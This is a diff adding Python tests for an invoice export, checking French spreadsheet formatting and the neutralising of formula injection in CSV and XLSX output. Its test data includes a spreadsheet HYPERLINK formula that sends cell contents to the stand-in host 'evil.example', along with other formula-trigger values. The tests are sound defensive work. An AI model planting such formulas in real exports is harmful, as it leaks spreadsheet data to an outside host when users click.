@@ -48,6 +48,65 @@ def test_csv_is_french_excel_friendly(database: Database, tmp_path: Path) -> Non
     assert rows[1][10] == format(first["amount_incl_vat"], "f").replace(".", ",")
 
 
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
+    "+33 1 23 45 67 89",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabulé",
+    "\rRetour",
+)
+
+
+def _fill_hostile(database: Database) -> dict[int, str]:
+    """Invoices whose supplier names are formulas; returns id -> name."""
+    rows = [invoice_values(i) | {"supplier_name": name} for i, name in enumerate(HOSTILE)]
+    database.writer.run(lambda s: s.execute(insert(Invoice), rows))
+    return {row["id"]: row["supplier_name"] for row in rows}
+
+
+def test_csv_dates_amounts_and_headers_for_a_french_spreadsheet(
+    database: Database, tmp_path: Path
+) -> None:
+    _fill(database, 3)
+    for language, header in (("fr", "Date facture"), ("en", "Invoice date")):
+        target = tmp_path / f"liste-{language}.csv"
+        with database.read() as session:
+            assert export_csv(session, InvoiceFilter(), target, language=language) == 3
+        raw = target.read_bytes()
+        assert raw.startswith(b"\xef\xbb\xbf")
+        rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
+        assert rows[0][6] == header
+        by_id = {int(row[13]): row for row in rows[1:]}
+        expected = invoice_values(1)
+        row = by_id[expected["id"]]
+        assert row[6] == expected["issue_date"].strftime("%d/%m/%Y")
+        assert row[7] == expected["deposit_date"].strftime("%d/%m/%Y")
+        assert row[8] == format(expected["amount_excl_vat"], "f").replace(".", ",")
+        assert "." not in row[10]
+
+
+def test_formulas_are_neutralised_in_csv_and_xlsx(database: Database, tmp_path: Path) -> None:
+    names = _fill_hostile(database)
+    target = tmp_path / "liste.csv"
+    with database.read() as session:
+        export_csv(session, InvoiceFilter(), target)
+    rows = list(csv.reader(target.open(encoding="utf-8-sig", newline=""), delimiter=";"))
+    got = {int(row[13]): row[2] for row in rows[1:]}
+    assert got == {key: "'" + name for key, name in names.items()}
+    workbook_path = tmp_path / "liste.xlsx"
+    with database.read() as session:
+        export_xlsx(session, InvoiceFilter(), workbook_path)
+    sheet = load_workbook(workbook_path).active
+    assert sheet is not None
+    cells = {row[13].value: row[2] for row in sheet.iter_rows(min_row=2)}
+    for key, name in names.items():
+        assert cells[key].data_type == "s"  # a string, never "f" (formula)
+        assert cells[key].value == "'" + name
+    date_cell = next(sheet.iter_rows(min_row=2, max_row=2))[6]
+    assert date_cell.is_date and date_cell.number_format == "dd/mm/yyyy"
+
+
 def test_xlsx_reads_back_with_exact_amounts(database: Database, tmp_path: Path) -> None:
     _fill(database)
     target = tmp_path / "liste.xlsx"
